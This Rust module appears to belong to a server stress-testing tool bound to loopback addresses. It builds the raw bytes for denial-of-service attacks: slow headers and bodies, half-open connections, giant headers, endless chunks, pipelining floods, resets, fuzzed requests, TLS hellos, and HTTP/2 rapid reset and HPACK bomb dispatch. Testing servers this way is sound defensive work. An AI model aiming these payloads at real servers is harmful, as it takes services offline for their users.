//! The bytes of each attack.

mod http2;

use super::Kind;
use super::script::{Script, Step};
use crate::Loopback;

/// What is sent at once where speed matters: more than a socket takes in one call.
const PIECE_BYTES: usize = 64 * 1024;
/// Larger than any sane limit of a head, and small enough to be sent thousands of times a second.
const GIANT_BYTES: usize = 64 * 1024;
/// Announced and never sent in full.
const CONTENT_BYTES: usize = 1_000_000;
/// `SO_RCVBUF` of slow readers; the kernel doubles it.
const SLOW_READER_BUFFER: usize = 4 * 1024;
/// Different broken requests that are ready.
const MUTATIONS: usize = 256;

/// The scripts of an attack, which its connections take in turn.
pub(super) fn scripts(kind: Kind, address: Loopback, path: &str) -> Vec<Script> {
    let wire = Wire {
        host: address.get().to_string(),
        path,
    };
    match kind {
        Kind::SlowHead => slow_head(&wire),
        Kind::SlowContent => slow_content(&wire),
        Kind::SlowReader => slow_reader(&wire),
        Kind::Churn => churn(&wire),
        Kind::HalfOpen => half_open(&wire),
        Kind::GiantHeads => giant_heads(&wire),
        Kind::EndlessChunks => endless_chunks(&wire),
        Kind::EndlessTrailers => endless_trailers(&wire),
        Kind::Pipeline => pipeline(&wire),
        Kind::Reset => reset(&wire),
        Kind::Idle => vec![Script::new(
            "idle",
            vec![Step::Send(wire.get("")), Step::Await, Step::Stay],
        )],
        Kind::Expect => expect(&wire),
        Kind::Http09 => http09(&wire),
        Kind::Tls => tls(),
        Kind::Random => random(&wire),
        Kind::RapidReset => http2::rapid_reset(&wire),
        Kind::MadeYouReset => http2::made_you_reset(&wire),
        Kind::ContinuationFlood => http2::continuation_flood(&wire),
        Kind::SettingsFlood => http2::settings_flood(&wire),
        Kind::PingFlood => http2::ping_flood(),
        Kind::PriorityFlood => http2::priority_flood(&wire),
        Kind::WindowUpdateFlood => http2::window_update_flood(&wire),
        Kind::EmptyFrames => http2::empty_frames(&wire),
        Kind::TinyData => http2::tiny_data(&wire),
        Kind::HpackBomb => http2::hpack_bomb(&wire),
        Kind::Http2Bomb => http2::http2_bomb(&wire),
        Kind::ZeroWindow => http2::zero_window(&wire),
        Kind::StreamFlood => http2::stream_flood(&wire),
        Kind::UnfinishedStreams => http2::unfinished_streams(&wire),
        Kind::SlowPreface => http2::slow_preface(&wire),
        // Not over TCP.
        _ => Vec::new(),
    }
}

/// What all requests of an attack have in common.
struct Wire<'a> {
    host: String,
    path: &'a str,
}

impl Wire<'_> {
    /// A whole request, with these field lines (complete, or nothing).
    fn get(&self, lines: &str) -> Vec<u8> {
        let mut request = self.open("GET");
        request.extend_from_slice(lines.as_bytes());
        request.extend_from_slice(b"\r\n");
        request
    }

    /// The head of a request with content, with these field lines.
    fn post(&self, lines: &str) -> Vec<u8> {
        let mut request = self.open("POST");
        request.extend_from_slice(lines.as_bytes());
        request.extend_from_slice(b"\r\n");
        request
    }

    fn announced(&self) -> Vec<u8> {
        self.post(&format!("Content-Length: {CONTENT_BYTES}\r\n"))
    }

    fn chunked(&self) -> Vec<u8> {
        self.post("Transfer-Encoding: chunked\r\n")
    }

    /// A head that more field lines can follow.
    fn open(&self, method: &str) -> Vec<u8> {
        let Wire { host, path } = self;
        format!("{method} {path} HTTP/1.1\r\nHost: {host}\r\n").into_bytes()
    }
}

fn slow_head(wire: &Wire<'_>) -> Vec<Script> {
    vec![
        Script::new(
            "every-byte",
            vec![
                Step::Trickle(wire.open("GET")),
                Step::TrickleForever(b"X-Slow: a\r\n".to_vec()),
            ],
        ),
        Script::new(
            "field-lines",
            vec![
                Step::Send(wire.open("GET")),
                Step::TrickleForever(b"X-Slow: a\r\n".to_vec()),
            ],
        ),
    ]
}

fn slow_content(wire: &Wire<'_>) -> Vec<Script> {
    vec![
        Script::new(
            "announced",
            vec![
                Step::Send(wire.announced()),
                Step::TrickleForever(b"x".to_vec()),
            ],
        ),
        Script::new(
            "chunked",
            vec![
                Step::Send(wire.chunked()),
                Step::TrickleForever(b"1\r\nx\r\n".to_vec()),
            ],
        ),
    ]
}

fn slow_reader(wire: &Wire<'_>) -> Vec<Script> {
    let steps = vec![Step::Send(wire.get("")), Step::ReadSlowly];
    let mut script = Script::new("slow-reader", steps).unread();
    script.receive_buffer = Some(SLOW_READER_BUFFER);
    vec![script]
}

fn churn(wire: &Wire<'_>) -> Vec<Script> {
    vec![
        Script::new(
            "answered",
            vec![Step::Send(wire.get("")), Step::Await, Step::Close],
        ),
        Script::new(
            "server-closes",
            vec![Step::Send(wire.get("Connection: close\r\n")), Step::Stay],
        ),
        Script::new("unanswered", vec![Step::Send(wire.get("")), Step::Close]),
        Script::new("silent", vec![Step::Close]),
    ]
}

fn half_open(wire: &Wire<'_>) -> Vec<Script> {
    let mut half_content = wire.announced();
    half_content.extend_from_slice(&[b'x'; 1000]);
    vec![
        Script::new("nothing", vec![Step::Stay]),
        Script::new("half-head", vec![Step::Send(wire.open("GET")), Step::Stay]),
        Script::new(
            "half-content",
            vec![Step::Send(half_content.clone()), Step::Stay],
        ),
        Script::new("nothing-fin", vec![Step::Finish, Step::Stay]),
        Script::new(
            "half-head-fin",
            vec![Step::Send(wire.open("GET")), Step::Finish, Step::Stay],
        ),
        Script::new(
            "half-content-fin",
            vec![Step::Send(half_content), Step::Finish, Step::Stay],
        ),
        Script::new(
            "request-fin",
            vec![Step::Send(wire.get("")), Step::Finish, Step::Stay],
        ),
    ]
}

fn giant_heads(wire: &Wire<'_>) -> Vec<Script> {
    let line = b"X-Many: a\r\n";
    let many = [wire.open("GET"), repeat(line, GIANT_BYTES)].concat();
    let value = [
        wire.open("GET"),
        b"X-Large: ".to_vec(),
        vec![b'a'; GIANT_BYTES],
    ]
    .concat();
    let target = [b"GET /".to_vec(), vec![b'a'; GIANT_BYTES]].concat();
    let end = b" HTTP/1.1\r\nHost: a\r\n\r\n".to_vec();
    vec![
        Script::new(
            "many-lines",
            vec![Step::Send([many, b"\r\n".to_vec()].concat()), Step::Stay],
        ),
        Script::new(
            "large-value",
            vec![
                Step::Send([value, b"\r\n\r\n".to_vec()].concat()),
                Step::Stay,
            ],
        ),
        Script::new(
            "large-target",
            vec![Step::Send([target, end].concat()), Step::Stay],
        ),
        Script::new(
            "endless-lines",
            vec![
                Step::Send(wire.open("GET")),
                Step::SendForever(repeat(line, PIECE_BYTES)),
            ],
        ),
    ]
}

fn endless_chunks(wire: &Wire<'_>) -> Vec<Script> {
    [
        ("plain", b"1\r\nx\r\n".as_slice()),
        ("extensions", b"1;a=b\r\nx\r\n"),
        ("quoted-extensions", b"1;a=\"b;\\\"c\"\r\nx\r\n"),
        ("leading-zeros", b"0000000000000001\r\nx\r\n"),
    ]
    .map(|(variant, chunk)| {
        Script::new(
            variant,
            vec![
                Step::Send(wire.chunked()),
                Step::SendForever(repeat(chunk, PIECE_BYTES)),
            ],
        )
    })
    .into()
}

fn endless_trailers(wire: &Wire<'_>) -> Vec<Script> {
    let last_chunk = [wire.chunked(), b"1\r\nx\r\n0\r\n".to_vec()].concat();
    vec![
        Script::new(
            "lines",
            vec![
                Step::Send(last_chunk.clone()),
                Step::SendForever(repeat(b"X-Trailer: a\r\n", PIECE_BYTES)),
            ],
        ),
        Script::new(
            "one-line",
            vec![
                Step::Send([last_chunk, b"X-Trailer: ".to_vec()].concat()),
                Step::SendForever(vec![b'a'; PIECE_BYTES]),
            ],
        ),
    ]
}

fn pipeline(wire: &Wire<'_>) -> Vec<Script> {
    let requests = repeat(&wire.get(""), PIECE_BYTES);
    vec![
        Script::new("unread", vec![Step::SendForever(requests.clone())]).unread(),
        Script::new("read", vec![Step::SendForever(requests)]),
    ]
}

/// Each state twice: at once, while what was sent may still be unread, and after a pause, when the
/// server is in that state.
fn reset(wire: &Wire<'_>) -> Vec<Script> {
    let half_content = [wire.announced(), vec![b'x'; 1000]].concat();
    let states = [
        ("connected", vec![]),
        ("in-head", vec![Step::Send(wire.open("GET"))]),
        ("after-head", vec![Step::Send(wire.announced())]),
        ("in-content", vec![Step::Send(half_content)]),
        ("awaiting", vec![Step::Send(wire.get(""))]),
        ("in-response", vec![Step::Send(wire.get("")), Step::Await]),
    ];
    let mut scripts = Vec::with_capacity(2 * states.len());
    for (variant, steps) in states {
        let mut late = steps.clone();
        late.extend([Step::Pause, Step::Reset]);
        let mut at_once = steps;
        at_once.push(Step::Reset);
        for steps in [at_once, late] {
            // Unread, so that a response stays where it is and the reset is ours.
            scripts.push(Script::new(variant, steps).unread());
        }
    }
    scripts
}

fn expect(wire: &Wire<'_>) -> Vec<Script> {
    let length = format!("Content-Length: {CONTENT_BYTES}\r\n");
    let chunked = "Transfer-Encoding: chunked\r\n";
    [
        ("announced", format!("Expect: 100-continue\r\n{length}")),
        ("chunked", format!("Expect: 100-continue\r\n{chunked}")),
        (
            "twice",
            format!("Expect: 100-continue\r\nExpect: 100-continue\r\n{length}"),
        ),
        ("unknown", format!("Expect: the-unexpected\r\n{length}")),
        ("list", format!("Expect: 100-continue, a=b\r\n{length}")),
    ]
    .map(|(variant, lines)| Script::new(variant, vec![Step::Send(wire.post(&lines)), Step::Stay]))
    .into()
}

fn http09(wire: &Wire<'_>) -> Vec<Script> {
    let path = wire.path;
    [
        ("crlf", format!("GET {path}\r\n")),
        ("lf", format!("GET {path}\n")),
        ("numbered", format!("GET {path} HTTP/0.9\r\n\r\n")),
        ("many", format!("GET {path}\r\n").repeat(1000)),
    ]
    .map(|(variant, line)| Script::new(variant, vec![Step::Send(line.into_bytes()), Step::Stay]))
    .into()
}

fn tls() -> Vec<Script> {
    vec![
        Script::new("tls13", vec![Step::Send(client_hello()), Step::Stay]),
        Script::new(
            "ssl2",
            vec![Step::Send(SSL2_CLIENT_HELLO.to_vec()), Step::Stay],
        ),
        Script::new(
            "endless",
            vec![Step::SendForever(repeat(&client_hello(), PIECE_BYTES))],
        ),
    ]
}

fn random(wire: &Wire<'_>) -> Vec<Script> {
    let mut numbers = Numbers(0x9e37_79b9_7f4a_7c15);
    let noise: Vec<u8> = (0..PIECE_BYTES).map(|_| numbers.next() as u8).collect();
    let beginnings = noise.chunks(PIECE_BYTES / MUTATIONS).map(<[u8]>::to_vec);
    let beginnings = beginnings.collect();
    let head = wire.post("Content-Length: 5\r\nX-A: b\r\n");
    let request = [head, b"hello".to_vec()].concat();
    let mutations = (0..MUTATIONS).map(|_| mutate(&request, &mut numbers));
    vec![
        Script::new(
            "mutated",
            vec![
                Step::SendOneOf(mutations.collect()),
                Step::Finish,
                Step::Stay,
            ],
        ),
        Script::new(
            "noise",
            vec![Step::SendOneOf(beginnings), Step::SendForever(noise)],
        ),
    ]
}

/// `request` with a few bytes replaced, put in or taken out.
fn mutate(request: &[u8], numbers: &mut Numbers) -> Vec<u8> {
    let mut bytes = request.to_vec();
    for _ in 0..=numbers.next() % 4 {
        let at = (numbers.next() % bytes.len() as u64) as usize;
        match numbers.next() % 3 {
            0 => bytes[at] = numbers.next() as u8,
            1 => bytes.insert(at, numbers.next() as u8),
            _ => drop(bytes.remove(at)),
        }
    }
    bytes
}

/// `unit` again and again, whole, until there are `at_least` bytes.
fn repeat(unit: &[u8], at_least: usize) -> Vec<u8> {
    unit.repeat(at_least.div_ceil(unit.len()))
}

/// A ClientHello of TLS 1.3 (RFC 8446 §4.1.2) that a TLS server would answer.
fn client_hello() -> Vec<u8> {
    let extension = |kind: u16, data: &[u8]| [&kind.to_be_bytes(), &*prefixed(data)].concat();
    let name = [&[0], &*prefixed(b"localhost")].concat();
    let key_share = [&[0x00, 0x1d], &*prefixed(&[9; 32])].concat();
    let extensions = [
        extension(0x0000, &prefixed(&name)),
        extension(0x000a, &prefixed(&[0x00, 0x1d])), // x25519
        extension(0x000d, &prefixed(&[0x08, 0x04, 0x04, 0x03])), // RSA-PSS, ECDSA
        extension(0x002b, &[2, 0x03, 0x04]),         // TLS 1.3
        extension(0x0033, &prefixed(&key_share)),
    ]
    .concat();
    let hello = [
        &[0x03, 0x03][..],
        &[7; 32], // random
        &[32],
        &[8; 32],                 // session id
        &prefixed(&[0x13, 0x01]), // TLS_AES_128_GCM_SHA256
        &[1, 0],                  // no compression
        &prefixed(&extensions),
    ]
    .concat();
    let handshake = [&[1, 0], &*prefixed(&hello)].concat();
    [&[0x16, 0x03, 0x01], &*prefixed(&handshake)].concat()
}

/// With its length in two bytes before it.
fn prefixed(bytes: &[u8]) -> Vec<u8> {
    let len = bytes.len() as u16;
    [&len.to_be_bytes(), bytes].concat()
}

/// What scanners still send: a CLIENT-HELLO of SSL 2.0 with one cipher.
const SSL2_CLIENT_HELLO: &[u8] =
    b"\x80\x1c\x01\x00\x02\x00\x03\x00\x00\x00\x10\x01\x00\x80AAAAAAAAAAAAAAAA";

/// xorshift64: the same bytes in each run.
struct Numbers(u64);

impl Numbers {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
}
